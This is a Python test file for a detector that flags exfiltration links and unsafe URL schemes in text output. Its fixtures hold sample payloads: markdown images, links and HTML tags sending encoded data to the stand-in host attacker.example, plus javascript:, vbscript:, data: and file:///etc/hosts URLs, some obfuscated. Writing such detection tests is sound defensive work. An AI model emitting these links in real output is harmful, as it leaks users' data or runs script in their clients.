"""Addresses that carry data out are found with their link; pictures, documentation and searches are left alone."""

import pytest

from guard.core.channel import Channel
from guard.scan.engine import PatternEngine
from guard.scan.store import DatabaseStore
from guard.security.exfil_link import PATTERNS
from tests.pii.reference import find

OPAQUE = "aGVsbG8gd29ybGQsIHRoaXMgaXMgYSBzZWNyZXQ"
HOST = "https://attacker.example"

LEAKS = (
    (f"![x]({HOST}/p.png?q=the%20key%20is%20blue)", None),
    (f"see ![]({HOST}/?d={OPAQUE}) there", [f"![]({HOST}/?d={OPAQUE})"]),
    (f"![a [b] c]({HOST}/?chat=hello%0Athere%29now)", [f"![a [b] c]({HOST}/?chat=hello%0Athere%29"]),
    (f"![x]({HOST}/%28?q=two%20words)", None),
    (f"![x]({HOST}/(a)?secret=hunter2)", None),
    (f"![x]({HOST}/a%5D?q=secret%20words)", [f"![x]({HOST}/a%5D"]),
    (f"![x](\n<{HOST}/?q=secret%20words>)", None),
    (f"![x]({HOST}/?mail=jane@mail.example)", None),
    (f'![x]({HOST}/?card=4111111111111111 "title")', None),
    (f"![x]({HOST}/{OPAQUE}{OPAQUE}.png)", None),
    (f"![x](//attacker.example/log?s={OPAQUE})", None),
    (f"![x](https://{OPAQUE}.attacker.example/a.png)", None),
    (f"![x]({HOST}/#q=secret%20words)", None),
    (f"![x](HTTPS://ATTACKER.EXAMPLE/?Q={OPAQUE})", None),
    (f"[click]({HOST}/?d={OPAQUE}).", [f"]({HOST}/?d={OPAQUE})"]),
    (f"[click]({HOST}/?note={'very+long+text+' * 5})", [f"]({HOST}/?note={'very+long+text+' * 5})"]),
    (f"![x][1]\n\n[1]: {HOST}/?q=secret%20words", [f"]: {HOST}/?q=secret%20words"]),
    (f"[1]: <{HOST}/?d={OPAQUE}>\nnext", [f"]: <{HOST}/?d={OPAQUE}"]),
    (f'<img src="{HOST}/p?q=secret%20words">', None),
    (f"<IMG alt=x SRC='{HOST}/p?q={OPAQUE}'/> b", [f"<IMG alt=x SRC='{HOST}/p?q={OPAQUE}'/>"]),
    (f"<img src={HOST}/?user=jane />", None),
    (f'<img src="{HOST}/%22secret words">', None),
    (f'<iframe src="{HOST}/?d={OPAQUE}"></iframe>', [f'<iframe src="{HOST}/?d={OPAQUE}">']),
    (f'<a href="{HOST}/?d={OPAQUE}">here</a>', [f'<a href="{HOST}/?d={OPAQUE}">']),
    (f"<{HOST}/?d={OPAQUE}>", [f"{HOST}/?d={OPAQUE}"]),
    (f"go to {HOST}/?d={OPAQUE}.", [f"{HOST}/?d={OPAQUE}"]),
)

NO_LEAKS = (
    "![logo](https://example.com/logo.png)",
    "![logo](/static/logo.png?user=jane)",
    "![badge](https://img.example/badge/build-passing-green?style=flat-square&logo=python&logoColor=white)",
    '![photo](https://example.com/My%20Photo.jpg?w=1200&h=800&fit=crop "On the beach")',
    "![raw](https://example.com/a/b/diagram.svg?raw=true)",
    "![planet](https://example.org/wiki/Mercury_(planet).png)",
    "![shot](http://localhost:3000/shot.png?user=jane&id=12345)",
    "[docs](https://example.com/docs)? Yes, [there](https://example.com/a_(b)).",
    "[search](https://example.com/search?q=pizza+in+rome&hl=en)",
    "[search](https://example.com/search?q=best%20pizza)",
    "[post](https://example.com/blog/10-ways-to-fix-your-kitchen-sink-without-calling-a-plumber-in-2024)",
    "[1]: https://example.com/paper.pdf A title of a paper, 2020",
    '[1]: https://example.com/guide?id=42 "The guide"',
    '<img src="https://example.com/a.png" alt="A picture (see below)" width="20">',
    '<img src="a.png?q=secret words">',
    '<a href="https://example.com/?page=2">next</a>',
    "https://example.com/watch?v=dQw4w9WgXcQ&t=42s",
    "arr[i](x) and matrix[0][1](https)",
    "wow![1] it is 5](//",
    "a[b]: //comment about it",
)

UNSAFE = (
    ("[x](javascript:alert(1)) now", ["](javascript:alert(1))"]),
    ("[x]( JavaScript:alert`1`)", ["]( JavaScript:alert`1`)"]),
    ("[x](java%0Ascript:alert)", ["](java%0Ascript:alert)"]),
    ("[x](java\u200bscript:alert)", ["](java\u200bscript:alert)"]),
    ('<a href="javascript:void(0)">', ['href="javascript:void(0)']),
    ("<a href = 'vbscript:msgbox'>", ["href = 'vbscript:msgbox"]),
    ("<form action=javascript:x>", ["action=javascript:x"]),
    ("[1]: javascript:alert(1)", ["]: javascript:alert(1)"]),
    ("<javascript:alert(1)>", ["<javascript:alert(1)"]),
    ("![x](data:text/html;base64,PHNjcmlwdD4=)", ["](data:text/html;base64,PHNjcmlwdD4=)"]),
    ('<iframe src="data:text/html,<b>"></iframe>', ['src="data:text/html']),
    ("[svg](data:image/svg+xml;utf8,x)", ["](data:image/svg+xml;utf8,x)"]),
    ("[hosts](file:///etc/hosts)", ["](file:///etc/hosts)"]),
    ("<file:///C:/secret.txt>", ["<file:///C:/secret.txt"]),
)

SAFE = (
    "JavaScript: the good parts",
    "a javascript: link is dangerous",
    "[x](https://example.com/javascript:)",
    "[JavaScript](https://example.com)",
    "![dot](data:image/png;base64,iVBORw0KGgo=)",
    '<script type="text/javascript">',
    '{"data": "text/html"}',
    "open file:///etc/hosts in an editor",
    "[file](file.txt)",
    '<a href="/javascript">',
    "data:text/html is a MIME type",
    "if (x) { data = vb; script: 1 }",
    "[profile](profile://x)",
)


@pytest.mark.parametrize(("text", "values"), LEAKS)
def test_addresses_that_carry_data_are_found_with_their_link(text: str, values: list[str] | None) -> None:
    assert find(PATTERNS, text, "OUTPUT_EXFIL_LINK") == ([text] if values is None else values)


@pytest.mark.parametrize("text", NO_LEAKS)
def test_ordinary_links_are_left_alone(text: str) -> None:
    assert find(PATTERNS, text, "OUTPUT_EXFIL_LINK") == []


@pytest.mark.parametrize(("text", "values"), UNSAFE)
def test_addresses_that_run_something_are_found(text: str, values: list[str]) -> None:
    assert find(PATTERNS, text, "OUTPUT_UNSAFE_URL") == values


@pytest.mark.parametrize("text", SAFE)
def test_words_about_them_are_left_alone(text: str) -> None:
    assert find(PATTERNS, text, "OUTPUT_UNSAFE_URL") == []


@pytest.fixture(scope="module")
def engine(store: DatabaseStore) -> PatternEngine:
    return PatternEngine(PATTERNS, store=store)


@pytest.mark.parametrize(
    ("text", "held"),
    [
        ("see [the docs, ", ""),
        ("a list [1, 2, 3] and ", ""),
        ("see [the docs](https://exa", "](https://exa"),
        ("see [the docs](guide. ", ""),
        ("see [the docs](guide.md) and ", ""),
        ("wait! [no.", ""),
        ("look ![a pic", "![a pic"),
        ("look ![a pic](pic.png) so.", ""),
        ("a < b.", ""),
        ("<img src=", "<img src="),
        ("<span class=", ""),
    ],
)
def test_a_link_is_held_from_its_mark_on_and_brackets_are_not(engine: PatternEngine, text: str, held: str) -> None:
    memory = engine.open(Channel(0, "content"))
    upto = [memory.feed(char, False).upto for char in text][-1]
    memory.close()
    assert text[upto:] == held


def test_what_is_fetched_without_a_click_scores_highest() -> None:
    scores = {pattern.rule: pattern.score for pattern in PATTERNS}
    assert scores["exfil_image"] == max(score for rule, score in scores.items() if rule.startswith("exfil_"))
    assert scores["exfil_image"] > scores["exfil_image_query"] > scores["exfil_link"] > scores["exfil_address"]
